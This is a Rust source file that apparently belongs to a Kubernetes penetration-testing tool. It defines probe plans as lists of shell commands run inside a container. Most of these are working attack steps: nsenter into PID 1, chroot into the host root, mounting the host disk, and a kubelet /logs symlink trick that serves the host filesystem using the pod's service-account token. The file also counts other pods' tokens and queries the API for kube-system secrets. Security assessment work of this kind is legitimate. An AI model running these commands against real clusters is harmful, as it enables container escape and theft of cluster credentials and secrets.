//! Built-in probe plans.
//!
//! Each probe kind is data only: the command list to stream into the
//! workload and whether the permission report follows it. The session
//! runner is the same for all of them.

use crate::workload::spec::HOST_ROOT_MOUNT;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ProbeKind {
    /// Container-escape preconditions: identity, capabilities, host mounts,
    /// runtime sockets, host PID visibility.
    Escape,
    /// Service-account token and mounted-secret discovery plus API reach.
    Rbac,
    /// Everything in `Rbac` plus cluster service discovery.
    Recon,
}

impl ProbeKind {
    pub fn as_str(&self) -> &'static str {
        match self {
            Self::Escape => "escape",
            Self::Rbac => "rbac",
            Self::Recon => "recon",
        }
    }

    pub fn plan(&self) -> ProbePlan {
        match self {
            Self::Escape => ProbePlan {
                commands: escape_commands(),
                permission_report: false,
            },
            Self::Rbac => ProbePlan {
                commands: rbac_commands(),
                permission_report: true,
            },
            Self::Recon => {
                let mut commands = rbac_commands();
                commands.push(shell(
                    "dig +short SRV _https._tcp.kubernetes.default.svc.cluster.local",
                ));
                ProbePlan {
                    commands,
                    permission_report: true,
                }
            }
        }
    }
}

impl std::fmt::Display for ProbeKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}", self.as_str())
    }
}

/// What one session runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProbePlan {
    pub commands: Vec<Vec<String>>,
    /// Append the permission report after the command sequence.
    pub permission_report: bool,
}

impl ProbePlan {
    pub fn commands_only(commands: Vec<Vec<String>>) -> Self {
        Self {
            commands,
            permission_report: false,
        }
    }
}

fn argv(parts: &[&str]) -> Vec<String> {
    parts.iter().map(|s| s.to_string()).collect()
}

fn shell(script: &str) -> Vec<String> {
    argv(&["/bin/sh", "-c", script])
}

/// Symlink planted in the host's `/var/log` so the kubelet `/logs` endpoint
/// serves the host root. Removed in the same script that creates it.
const KUBELET_LOG_LINK: &str = "kube-privateer-root";

fn escape_commands() -> Vec<Vec<String>> {
    vec![
        argv(&["id"]),
        argv(&["uname", "-a"]),
        argv(&["cat", "/proc/1/cgroup"]),
        shell("grep -i cap /proc/self/status"),
        // Host namespaces through PID 1.
        argv(&[
            "nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "id",
        ]),
        argv(&["chroot", "/proc/1/root", "id"]),
        argv(&["chroot", HOST_ROOT_MOUNT, "id"]),
        shell(&format!("ls -la {HOST_ROOT_MOUNT} 2>&1 | head -n 20")),
        // Host block device, mounted read-only and unmounted again.
        shell(
            "mkdir -p /mnt/hostfs && mount -o ro /dev/vda1 /mnt/hostfs && \
             ls -lah /mnt/hostfs/; umount /mnt/hostfs 2>/dev/null",
        ),
        // Kernel module loading is only checked for, never attempted.
        shell("command -v insmod && grep -c . /proc/modules"),
        shell("head -n 10 /etc/mtab"),
        shell("ls -la /var/run/docker.sock /run/containerd/containerd.sock 2>&1"),
        shell("ps -e -o pid,comm 2>/dev/null | head -n 20"),
        argv(&["cat", "/proc/sys/kernel/core_pattern"]),
        shell(&format!(
            "ln -sfn / {HOST_ROOT_MOUNT}/var/log/{KUBELET_LOG_LINK} && \
             curl -sk -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" \
             https://$(ip route | awk '/^default/{{print $3}}'):10250/logs/{KUBELET_LOG_LINK}/var/lib/kubelet/pods/; \
             rm -f {HOST_ROOT_MOUNT}/var/log/{KUBELET_LOG_LINK}"
        )),
    ]
}

fn rbac_commands() -> Vec<Vec<String>> {
    vec![
        shell("cat /proc/self/mounts | grep -E 'volume|kubernetes.io'"),
        shell(&format!(
            "find {HOST_ROOT_MOUNT}/var/lib/kubelet/pods/ -name volumes -type d 2>/dev/null"
        )),
        shell(&format!(
            "ls {HOST_ROOT_MOUNT}/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/*/token 2>/dev/null | wc -l"
        )),
        shell(
            "KUBE_TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token) && \
             curl -sSk -H \"Authorization: Bearer $KUBE_TOKEN\" \
             https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_PORT_443_TCP_PORT/api/v1/namespaces/kube-system/secrets",
        ),
    ]
}
